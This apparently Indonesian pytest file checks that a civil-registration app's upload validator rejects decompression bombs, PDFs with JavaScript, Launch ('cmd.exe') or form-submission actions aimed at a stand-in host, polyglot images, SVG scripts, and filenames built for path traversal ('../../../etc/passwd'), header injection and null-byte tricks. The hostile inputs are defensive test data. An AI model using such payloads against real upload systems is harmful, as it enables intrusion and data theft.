"""Berkas kecil yang menjadi raksasa, dan yang bukan apa yang dikatakannya: ditolak cepat, dengan sedikit memori."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pikepdf
import pytest

from adminduk.permohonan import berkas
from adminduk.permohonan.berkas import BerkasDitolak
from adminduk.permohonan.contoh_alur import foto
from adminduk.permohonan.keadaan import Keadaan

DITOLAK = {
    "zip", "xlsx", "piksel png", "piksel jpeg", "teks png", "profil png", "objek pdf", "objek lzw pdf",
    "objek berlapis pdf", "pohon pdf", "polyglot html",
}  # fmt: skip
# Read for what it is without unpacking the rest.
TAK_BERBAHAYA = {"wajar", "tabel pdf", "sarang pdf"}
DETIK, MEGABITA = 1.0, 100.0


@pytest.fixture(scope="module")
def terukur() -> dict[str, tuple[int, float, float, str]]:
    perintah = [sys.executable, str(Path(__file__).with_name("bom.py"))]
    keluaran = subprocess.run(perintah, capture_output=True, text=True, check=True).stdout
    return {nama: tuple(ukuran) for nama, *ukuran in map(json.loads, keluaran.splitlines())}


@pytest.mark.parametrize("nama", sorted(DITOLAK | TAK_BERBAHAYA))
def test_bom_dihentikan_dalam_sedetik_dan_di_bawah_seratus_megabita(nama, terukur):
    ukuran, detik, megabita, hasil = terukur[nama]

    assert ukuran < 5_000_000, "lebih besar dari itu sudah ditolak dari ukurannya"
    assert hasil.startswith("BerkasDitolak") == (nama in DITOLAK)
    assert detik < DETIK and megabita < MEGABITA


def test_setiap_bom_diukur_dan_bom_itu_memang_bom(terukur):
    """The control: the same file, opened without our guard, does take what we say."""
    assert terukur.keys() - {"tanpa penjaga"} == DITOLAK | TAK_BERBAHAYA
    assert terukur["tanpa penjaga"][2] > MEGABITA
    assert 150_000 < terukur["xlsx"][0] < 200_000


def test_pindaian_yang_penuh_sampai_batas_tetap_diterima():
    """The memory that stops a bomb is enough for fifty full pages."""
    keluar = io.BytesIO()
    with pikepdf.new() as pdf:
        for n in range(50):
            pdf.add_blank_page()
            pdf.pages[n].Contents = pdf.make_stream(bytes(range(256)) * 370 + str(n).encode())
        pdf.save(keluar, compress_streams=False)

    assert 4_600_000 < len(keluar.getvalue()) < 5_000_000
    assert berkas.periksa(keluar.getvalue())[1] == berkas.PDF


def pdf_dengan(ubah) -> bytes:
    keluar = io.BytesIO()
    with pikepdf.new() as pdf:
        ubah(pdf, pdf.add_blank_page())
        pdf.save(keluar, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return keluar.getvalue()


def _tindakan(jenis: str, **isi: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name("/" + jenis), **isi)


def _anotasi(halaman, tindakan) -> None:
    tautan = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=tindakan)
    halaman.obj.Annots = pikepdf.Array([tautan])


AKTIF = {
    "skrip saat halaman dibuka": lambda p, h: h.obj.__setitem__(
        "/AA", pikepdf.Dictionary(O=_tindakan("JavaScript", JS="x"))
    ),
    "skrip pada tautan": lambda p, h: _anotasi(h, _tindakan("JavaScript", JS="app.alert(1)")),
    "program pada tautan": lambda p, h: _anotasi(h, _tindakan("Launch", F="cmd.exe")),
    "kirim formulir": lambda p, h: _anotasi(h, _tindakan("SubmitForm", F="http://jahat.contoh")),
    "rujukan tak langsung": lambda p, h: _anotasi(h, p.make_indirect(_tindakan("JavaScript", JS="x"))),
    "nama skrip": lambda p, h: p.Root.__setitem__(
        "/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", _tindakan("JavaScript", JS="x")]))
    ),
}


@pytest.mark.parametrize("ubah", AKTIF.values(), ids=AKTIF)
def test_pdf_yang_menjalankan_sesuatu_ditolak_di_mana_pun_ia_menyimpannya(ubah):
    with pytest.raises(BerkasDitolak, match="memuat skrip"):
        berkas.periksa(pdf_dengan(ubah))


def test_pdf_dengan_tautan_biasa_diterima():
    isi = pdf_dengan(lambda p, h: _anotasi(h, _tindakan("URI", URI="https://contoh.id")))

    assert berkas.periksa(isi)[1] == berkas.PDF


@pytest.mark.parametrize(
    ("depan", "jenis"), [(foto(), berkas.PNG), (foto(bentuk="JPEG"), berkas.JPEG)], ids=["png", "jpeg"]
)
def test_gambar_yang_juga_arsip_atau_halaman_tinggal_gambarnya(depan, jenis):
    bersih, terbaca = berkas.periksa(depan + b"PK\x03\x04<script>serang()</script>%PDF-1.7")

    assert terbaca == jenis
    assert b"PK\x03\x04" not in bersih and b"script" not in bersih and b"%PDF" not in bersih


@pytest.mark.parametrize("isi", [b"<svg onload='serang()'/>", b"GIF89a<script>", b"<?xml version='1.0'?><!DOCTYPE x>"])
def test_yang_bukan_pdf_jpeg_png_ditolak_apa_pun_namanya(isi):
    with pytest.raises(BerkasDitolak, match="bukan PDF, JPEG, atau PNG"):
        berkas.periksa(isi)


@pytest.mark.django_db
@pytest.mark.parametrize("nama", ["../../../etc/passwd", "a\r\nSet-Cookie: x=1", "x" * 5000 + ".png", "a.png\0.exe"])
def test_nama_berkas_tidak_pernah_menjadi_alamat_atau_kepala(nama, panggung, peramban, tmp_path):
    kasus, operator = panggung.kasus[Keadaan.DRAF], peramban("operator")
    isi = io.BytesIO(foto(31, 32))
    isi.name = "x.png"
    kiriman = {"permintaan": kasus.dokumen, "syarat": "buku_nikah", "berkas": isi}
    jawaban = operator.post(f"/petugas/permohonan/{kasus.id}/lampiran/", kiriman)
    isi.seek(0)
    isi.name = nama
    kedua = operator.post(f"/petugas/permohonan/{kasus.id}/lampiran/", kiriman | {"permintaan": kasus.lampiran})
    luar = [p for p in tmp_path.rglob("*") if p.is_file() and "berkas" not in p.relative_to(tmp_path).parts[0]]

    assert (jawaban.status_code, luar) == (302, [])
    assert kedua.status_code < 500 and "Set-Cookie" not in {n.title() for n in kedua.headers}
